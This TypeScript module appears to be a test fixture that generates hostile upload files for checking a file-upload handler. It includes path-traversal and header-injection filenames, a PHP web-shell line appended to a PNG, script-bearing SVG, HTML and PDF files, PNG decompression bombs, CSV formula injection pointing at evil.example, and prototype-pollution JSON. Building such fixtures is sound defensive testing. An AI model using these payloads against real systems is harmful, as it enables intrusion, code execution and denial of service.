import { deflateSync } from 'node:zlib'
import { crc32 } from 'node:zlib'
import { readdir, readFile } from 'node:fs/promises'
import { basename, join } from 'node:path'
import sharp from 'sharp'

/** What a file would leave behind if it were stored as it is. */
export const MARK = 'HOSTILE-MARK-7c1e'

/** A file as somebody might send it. */
export interface HostileFile {
  name: string
  bytes: Buffer<ArrayBuffer>
}

const NAMES = [
  '../../../../etc/passwd',
  '..\\..\\web.config',
  'a\u0000.jpg',
  'CON',
  '.htaccess',
  'a"; filename="b.html',
  'a\r\nX-Injected: 1',
  `${'n'.repeat(400)}.jpg`,
  '\u202Egpj.exe',
  '=cmd|calc.jpg',
  '<img src=x onerror=alert(1)>.jpg',
  '',
]

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const check = Buffer.alloc(4)
  check.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, check])
}

/** A PNG of one bit a pixel, which is small and becomes huge when it is read; `rows` are those that are really there. */
function bomb(width: number, height: number, rows: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header[8] = 1
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('tEXt', Buffer.from(`Comment\0${MARK}`, 'latin1')),
    chunk('IDAT', deflateSync(Buffer.alloc(rows * (1 + Math.ceil(width / 8))))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

const own = (bytes: Uint8Array | string): Buffer<ArrayBuffer> =>
  Buffer.from(Uint8Array.from(Buffer.from(bytes as string)))

async function photo(): Promise<Buffer> {
  return sharp({ create: { width: 320, height: 240, channels: 3, background: '#2b3a8c' } })
    .withExif({
      IFD0: { ImageDescription: MARK, Artist: MARK },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '12/1 58/1 18/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '77/1 35/1 40/1',
      },
    })
    .jpeg()
    .toBuffer()
}

const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert('${MARK}')</script><image href="file:///etc/passwd"/></svg>`
const PDF = `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\('${MARK}'\\))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF`
const HTML = `<!doctype html><script>alert('${MARK}')</script>`

/** Generated files that nobody should send: not what they are called, two things at once, cut off, too large when they are read. */
export async function makeFiles(): Promise<HostileFile[]> {
  const jpeg = await photo()
  const png = await sharp(jpeg).png().toBuffer()
  const webp = await sharp(jpeg).webp().toBuffer()
  const files: [string, Uint8Array | string][] = [
    ['gps.jpg', jpeg],
    ['script-behind.jpg', Buffer.concat([jpeg, Buffer.from(HTML)])],
    ['zip-behind.jpg', Buffer.concat([jpeg, Buffer.from(`PK\u0003\u0004${MARK}PK\u0005\u0006`)])],
    ['php-behind.png', Buffer.concat([png, Buffer.from(`<?php /* ${MARK} */ system($_GET['c']);`)])],
    ['cut.jpg', jpeg.subarray(0, jpeg.length / 2)],
    ['cut.png', png.subarray(0, 60)],
    ['cut.webp', webp.subarray(0, 30)],
    ['header.jpg', jpeg.subarray(0, 20)],
    ['bomb.png', bomb(20_000, 20_000, 20_000)],
    ['liar.png', bomb(60_000, 60_000, 1)],
    ['flat.png', bomb(40_000, 1, 1)],
    ['script.svg', SVG],
    ['svg.jpg', SVG],
    ['gif.jpg', `GIF89a/*${MARK}*/=1;alert(1)`],
    ['html.jpg', HTML],
    ['html.pdf', HTML],
    ['action.pdf', PDF],
    ['late.pdf', `${' '.repeat(900)}${PDF}`],
    ['program.pdf', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500), Buffer.from(MARK)])],
    ['empty.jpg', ''],
    ['zeros.jpg', Buffer.alloc(100_000)],
    [
      'noise.png',
      Buffer.concat([
        png.subarray(0, 33),
        Buffer.from(Uint8Array.from({ length: 5_000 }, (_, place) => (place * 37) % 251)),
      ]),
    ],
    ['formula.csv', 'car number,brand,price\r\n"=HYPERLINK(""http://evil.example"")",+1+1,-2+3\r\n'],
    ['quotes.csv', `car number,brand\r\n"${'"'.repeat(10_001)}`],
    ['one-line.csv', `car number${',x'.repeat(20_000)}`],
    ['utf16.csv', Buffer.from('\uFEFFcar number,price\r\nKA05MH1234,500000', 'utf16le')],
    ['deep.jsonl', `${'['.repeat(50_000)}`],
    ['proto.jsonl', '{"__proto__":{"isAdmin":true},"car number":"KA05MH1234"}'],
  ]
  return [
    ...files.map(([name, bytes]) => ({ name, bytes: own(bytes) })),
    ...NAMES.map(name => ({ name, bytes: own(jpeg) })),
  ]
}

/** Every file of a folder, those below it too. */
export async function* readFiles(folder: string): AsyncGenerator<HostileFile> {
  for (const entry of await readdir(folder, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue
    const path = join(entry.parentPath, entry.name)
    yield { name: basename(path), bytes: own(await readFile(path)) }
  }
}
